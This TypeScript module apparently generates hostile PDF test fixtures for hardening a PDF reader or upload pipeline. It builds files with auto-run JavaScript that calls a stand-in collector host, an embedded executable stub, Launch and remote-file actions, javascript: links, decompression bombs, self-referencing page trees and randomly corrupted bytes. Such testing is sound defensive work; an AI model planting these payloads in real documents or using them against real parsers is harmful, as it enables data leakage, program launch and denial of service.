import { deflateSync } from 'node:zlib';
import { aPdf, type PdfObject, rectangle, words } from './a-pdf.ts';

export type HostilePdf = { name: string; bytes: Uint8Array<ArrayBuffer> };

const script = 'globalThis.ranInPdf = 1; this.ranInPdf = 1; app.alert(1); app.launchURL("https://collector.example.com");';
const shown = words('Imke Vandersteen', 60, 740, 20) + words('Platform engineer, Utrecht, Netherlands', 60, 715);

/** A document with every part that can be turned against its reader: scripts, forms, files, layers, pictures, fonts. */
const rich = aPdf({
  pages: [
    {
      content: `${shown}/OC /Layer BDC ${words('Layer', 60, 600)} EMC ${rectangle('0 0 0', 40, 480, 300, 40)}q 100 0 0 100 300 300 cm /Picture Do Q /Form Do`,
      annotations: '40 0 R 41 0 R',
      extra: `/AA << /O << /S /JavaScript /JS (${script}) >> >>`,
    },
    { content: words('Experience', 60, 700, 16) + words('Example Freight, Engineer, 2019 - 2022', 60, 680) },
  ],
  info: "/Title (CV) /Author (Imke Vandersteen) /Producer (Example Writer) /CreationDate (D:20240131093000+05'30')",
  catalog: `/OpenAction << /S /JavaScript /JS (${script}) >> /AcroForm << /Fields [41 0 R] /XFA (xfa) >> /OCProperties << /OCGs [30 0 R] /D << /Order [30 0 R] >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> /EmbeddedFiles << /Names [(b.exe) 42 0 R] >> >>`,
  resources: { rest: '/Properties << /Layer 30 0 R >>', forms: '/Form 31 0 R' },
  objects: {
    30: '<< /Type /OCG /Name (Text) >>',
    31: { dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources 6 0 R', stream: words('In a form', 60, 400) },
    40: `<< /Type /Annot /Subtype /Link /Rect [50 700 300 760] /A << /S /URI /URI (https://people.example.com/imke) >> >>`,
    41: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [50 100 300 120] /A << /S /JavaScript /JS (${script}) >> >>`,
    42: '<< /Type /Filespec /F (b.exe) /EF << /F 43 0 R >> >>',
    43: { dictionary: '/Type /EmbeddedFile', stream: 'MZ' },
  },
});

const page = (content: string, objects: Record<number, PdfObject> = {}, more: Parameters<typeof aPdf>[0]['resources'] = {}) =>
  aPdf({ pages: [{ content: shown + content }], objects, resources: more });
const packed = (dictionary: string, text: Buffer): PdfObject => ({
  dictionary: `${dictionary} /Filter /FlateDecode`,
  stream: deflateSync(text).toString('latin1'),
});

/** Documents that were each made for one attack. */
const made: [string, () => Uint8Array<ArrayBuffer>][] = [
  [
    'a font matrix that is script',
    () => page('BT /F9 12 Tf 60 500 Td (abc) Tj ET', { 20: fontWith(`[1 2 3 4 5 (0\\); ${script} \\()]`) }, { fonts: '/F9 20 0 R' }),
  ],
  [
    'a font matrix of names',
    () => page('BT /F9 12 Tf 60 500 Td (abc) Tj ET', { 20: fontWith('[/a /b /c /d /e /f]') }, { fonts: '/F9 20 0 R' }),
  ],
  ['a font matrix that is no list', () => page('BT /F9 12 Tf 60 500 Td (abc) Tj ET', { 20: fontWith('20 0 R') }, { fonts: '/F9 20 0 R' })],
  [
    'a form that draws itself',
    () =>
      page(
        '/Loop Do',
        { 20: { dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources 6 0 R', stream: '/Loop Do /Loop Do' } },
        { forms: '/Loop 20 0 R' },
      ),
  ],
  [
    'a glyph that draws itself',
    () =>
      page(
        'BT /F9 12 Tf (aaa) Tj ET',
        {
          20: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 21 0 R >> /Resources 6 0 R >>',
          21: { dictionary: '', stream: '9 0 d0 BT /F9 1 Tf (a) Tj ET' },
        },
        { fonts: '/F9 20 0 R' },
      ),
  ],
  ['four thousand nested states', () => page(`${'q 1 0 0 1 0.1 0 cm '.repeat(4_000)}${words('deep', 1, 1)}${'Q '.repeat(8_000)}`)],
  ['nested lists', () => page(`${'['.repeat(3_000)}${']'.repeat(3_000)} TJ`)],
  ['nested dictionaries in an object', () => page('', { 20: `${'<< /A '.repeat(3_000)}1${' >>'.repeat(3_000)}`, 21: '20 0 R' })],
  ['nested marked content', () => page(`${'/A BMC '.repeat(50_000)}${words('deep', 60, 500)}`)],
  ['a page tree that is its own child', () => patched(rich, '/Kids [1000 0 R', '/Kids [2    0 R')],
  ['a page that is its own parent', () => patched(rich, '/Parent 2 0 R', '/Parent 1000 0 R ')],
  ['two thousand million pages', () => patched(rich, '/Count 2 ', '/Count 2000000000 ')],
  ['fewer pages than none', () => patched(rich, '/Count 2 ', '/Count -7 ')],
  ['a table that is its own forerunner', () => patched(rich, 'trailer\n<<', 'trailer\n<< /Prev 15 ')],
  ['no trailer', () => patched(rich, 'trailer', 'railert')],
  ['a start behind the end', () => patched(rich, 'startxref\n', 'startxref\n999999')],
  ['a length that is itself', () => patched(rich, '/Length ', '/Length 1001 0 R /X ')],
  ['thirty million spaces in a stream', () => withContent(packed('', Buffer.alloc(30_000_000, 0x20)))],
  ['words without number in a stream', () => withContent(packed('', Buffer.from(words('word', 60, 500).repeat(100_000))))],
  ['streams packed twenty times', () => withContent(nestedPack(20))],
  [
    'a picture of ten thousand million dots',
    () =>
      page(
        '/Big Do',
        {
          20: {
            dictionary: '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8',
            stream: 'x',
          },
        },
        { forms: '/Big 20 0 R' },
      ),
  ],
  [
    'a mask of minus one dot',
    () =>
      page(
        '/Big Do',
        { 20: { dictionary: '/Type /XObject /Subtype /Image /Width -1 /Height 4294967296 /ImageMask true', stream: 'x' } },
        { forms: '/Big 20 0 R' },
      ),
  ],
  ['letters without number', () => page(`BT /F1 11 Tf 60 500 Td [${'(word) -250 '.repeat(40_000)}] TJ ET`)],
  ['areas without number', () => page('0 0 m 1 1 l 2 0 l h f '.repeat(30_000))],
  ['one outline of a million corners', () => page(`0 0 m ${'5 5 l 9 1 l '.repeat(200_000)} f ${words('word', 60, 500, 11, '1 g')}`)],
  [
    'numbers beyond numbers',
    () => page(`1e308 0 0 1e308 1e308 -1e308 cm ${words('far', 60, 500)} 99999999999999999999 Tz BT /F1 1e300 Tf (x) Tj ET`),
  ],
  ['a name of a megabyte', () => page(`/${'a'.repeat(1_000_000)} gs ${words('word', 60, 500)}`)],
  [
    'properties of a megabyte',
    () => aPdf({ pages: [{ content: shown }], info: `/Author (${'A'.repeat(1_000_000)}) /Creator (${'<script>'.repeat(1_000)})` }),
  ],
  [
    'two thousand links',
    () =>
      aPdf({
        pages: [{ content: shown, annotations: '40 0 R '.repeat(2_000) }],
        objects: { 40: '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>' },
      }),
  ],
  [
    'links that start programs',
    () =>
      aPdf({
        pages: [{ content: shown, annotations: '40 0 R 41 0 R' }],
        objects: {
          40: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>',
          41: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (//collector.example.com/x) /D [0 /Fit] >> >>',
        },
      }),
  ],
  ['a second document behind the first', () => Uint8Array.from([...rich, ...rich.slice(0, 2_000)])],
  ['a file that only begins as one', () => Uint8Array.from('%PDF-1.7', (character) => character.charCodeAt(0))],
  [
    'a function of functions',
    () =>
      page(
        '/Pattern cs /P scn 0 0 99 99 re f',
        {
          20: '<< /PatternType 2 /Shading << /ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 1 0] /Function 21 0 R >> >>',
          21: '<< /FunctionType 3 /Domain [0 1] /Functions [21 0 R 21 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>',
        },
        { rest: '/Pattern << /P 20 0 R >>' },
      ),
  ],
  [
    'a pattern that paints itself',
    () =>
      page(
        '/Pattern cs /P scn 0 0 99 99 re f',
        {
          20: {
            dictionary: '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.0001 /YStep 0.0001 /Resources 6 0 R',
            stream: '/Pattern cs /P scn 0 0 9 9 re f',
          },
        },
        { rest: '/Pattern << /P 20 0 R >>' },
      ),
  ],
];

const fontWith = (matrix: string): string =>
  `<< /Type /Font /Subtype /Type1 /BaseFont /Odd /FontMatrix ${matrix} /Encoding /WinAnsiEncoding /FirstChar 97 /LastChar 99 /Widths [500 500 500] /FontDescriptor << /Type /FontDescriptor /FontName /Odd /Flags 4 /FontMatrix ${matrix} >> >>`;

const latin = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');
const bytesOf = (text: string): Uint8Array<ArrayBuffer> => Uint8Array.from(text, (character) => character.charCodeAt(0) & 255);
const patched = (bytes: Uint8Array, from: string, to: string): Uint8Array<ArrayBuffer> => bytesOf(latin(bytes).replace(from, to));
const withContent = (content: PdfObject): Uint8Array<ArrayBuffer> =>
  aPdf({ pages: [{ content: shown }], objects: { 1001: content }, trailer: '' });

function nestedPack(times: number): PdfObject {
  let body = Buffer.from(words('word', 60, 500).repeat(20_000));
  for (let nth = 0; nth < times; nth++) body = deflateSync(body);
  return { dictionary: `/Filter [${'/FlateDecode '.repeat(times)}]`, stream: body.toString('latin1') };
}

/** So many hostile documents: every made one, and then damage at random places of the rich one, the same for the same seed. */
export function hostilePdfs(count: number, seed: number): HostilePdf[] {
  const chance = seeded(seed);
  const damaged = Array.from({ length: Math.max(0, count - made.length) }, (_, nth) => {
    const [name, harm] = harms[nth % harms.length] as (typeof harms)[number];
    return { name: `${name} ${nth}`, bytes: harm(rich, chance) };
  });
  return [...made.slice(0, count).map(([name, make]) => ({ name, bytes: make() })), ...damaged];
}

type Harm = (bytes: Uint8Array, chance: (below: number) => number) => Uint8Array<ArrayBuffer>;

const harms: [string, Harm][] = [
  ['broken off', (bytes, chance) => Uint8Array.from(bytes.slice(0, 20 + chance(bytes.length - 20)))],
  [
    'bits turned',
    (bytes, chance) => {
      const changed = Uint8Array.from(bytes);
      for (let times = 1 + chance(40); times > 0; times--) {
        const at = 9 + chance(changed.length - 9);
        changed[at] = (changed[at] as number) ^ (1 << chance(8));
      }
      return changed;
    },
  ],
  [
    'a piece taken out',
    (bytes, chance) => {
      const at = 9 + chance(bytes.length - 9);
      return Uint8Array.from([...bytes.slice(0, at), ...bytes.slice(at + 1 + chance(200))]);
    },
  ],
  [
    'a piece said twice',
    (bytes, chance) => {
      const at = 9 + chance(bytes.length - 300);
      return Uint8Array.from([...bytes.slice(0, at + 300), ...bytes.slice(at)]);
    },
  ],
  ['numbers made huge', (bytes, chance) => replacedNumber(bytes, chance, ['99999999999', '-1', '2147483648', '0', '1e999'])],
  [
    'references led elsewhere',
    (bytes, chance) => bytesOf(latin(bytes).replace(/\d+ 0 R/g, (all) => (chance(6) === 0 ? `${1 + chance(45)} 0 R` : all))),
  ],
  ['references led back', (bytes, chance) => bytesOf(latin(bytes).replace(/\d+ 0 R/g, (all) => (chance(8) === 0 ? '2 0 R' : all)))],
  ['names changed', (bytes, chance) => bytesOf(latin(bytes).replace(/\/[A-Z]\w+/g, (all) => (chance(15) === 0 ? '/Type' : all)))],
];

function replacedNumber(bytes: Uint8Array, chance: (below: number) => number, by: readonly string[]): Uint8Array<ArrayBuffer> {
  return bytesOf(latin(bytes).replace(/(?<= )\d+(?=[ \]])/g, (all) => (chance(25) === 0 ? (by[chance(by.length)] as string) : all)));
}

/** Numbers below a limit that look random and are the same for the same seed. */
function seeded(seed: number): (below: number) => number {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % Math.max(1, below);
  };
}
